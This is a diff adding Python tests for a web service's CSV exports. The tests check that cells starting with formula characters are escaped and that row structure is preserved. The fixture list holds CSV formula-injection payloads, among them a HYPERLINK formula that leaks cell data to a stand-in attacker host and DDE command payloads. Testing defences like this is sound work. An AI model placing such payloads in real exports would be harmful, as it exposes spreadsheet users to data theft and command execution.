@@ -221,3 +221,68 @@ def test_recursion_error_is_never_a_500(app) -> None:  # type: ignore[no-untyped
 
     body = problem(probe.test_client().get("/deep"), 400)
     assert "nested too deeply" in body["detail"]
+
+
+# ------------------------------------------------------------------------------ 3. CSV formula injection
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x",
+           "-2+3+cmd|x", "\t=1+1", "\r=1+1", "a\rb", "two\nlines", "-5", "plain"]
+
+
+def _expected(value: str) -> str:
+    return value if value in ("a\rb", "two\nlines", "-5", "plain") else "'" + value
+
+
+def _rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
+
+
+def test_batch_csv_neutralises_formulas_and_keeps_rows(client) -> None:  # type: ignore[no-untyped-def]
+    from tests.service.conftest import TENEVER
+
+    feats = [{"type": "Feature", "properties": {"id": v},
+              "geometry": {"type": "Point", "coordinates": list(TENEVER)}} for v in HOSTILE]
+    feats.append({"type": "Feature", "id": -7, "geometry": {"type": "Point", "coordinates": list(TENEVER)}})
+    r = client.post("/api/v1/eligibility/batch?f=csv", json={"type": "FeatureCollection", "features": feats})
+    assert r.status_code == 200 and r.mimetype == "text/csv"
+    rows = _rows(r.data)
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(HOSTILE) + 1 and all(len(row) == len(header) for row in body)
+    assert [row[0] for row in body] == [*map(_expected, HOSTILE), "-7"]
+    assert {row[1] for row in body} == {"ok"}
+
+
+@pytest.mark.parametrize("dialect", ["", "?dialect=excel-de"])
+def test_designations_csv_neutralises_formulas(client, state, monkeypatch, dialect: str) -> None:  # type: ignore[no-untyped-def]
+    des = state.snapshot.designations.copy()
+    n = len(HOSTILE)
+    assert len(des) >= n
+    des = des.astype({"area": object, "status": object})
+    des.loc[des.index[:n], "area"] = HOSTILE
+    des.loc[des.index[:n], "status"] = list(reversed(HOSTILE))
+    monkeypatch.setattr(state.snapshot, "designations", des)
+    for key in [k for k in state.cache if k.startswith("designations.")]:
+        monkeypatch.delitem(state.cache, key)
+    r = client.get(f"/api/v1/downloads/designations.csv{dialect}")
+    assert r.status_code == 200
+    rows = _rows(r.data, ";" if dialect else ",")
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(des) and all(len(row) == len(header) for row in body)
+    area, status = header.index("area"), header.index("status")
+    assert [row[area] for row in body[:n]] == [_expected(v) for v in HOSTILE]
+    assert [row[status] for row in body[:n]] == [_expected(v) for v in reversed(HOSTILE)]
+    assert body[n][area] == str(des["area"].iloc[n])  # ordinary names unchanged
+
+
+def test_csv_helper_leaves_numbers_alone() -> None:
+    import pandas as pd
+
+    from service.exports import to_csv
+
+    frame = pd.DataFrame({"name": ["-x", "ok"], "delta": [-1.5, 2.0], "count": [-3, 4], "mixed": [-2.5, "=1"]})
+    assert _rows(to_csv(frame)) == [["name", "delta", "count", "mixed"], ["'-x", "-1.5", "-3", "-2.5"],
+                                    ["ok", "2.0", "4", "'=1"]]
+    assert _rows(to_csv(frame, "excel-de"), ";")[1][:3] == ["'-x", "-1,5", "-3"]
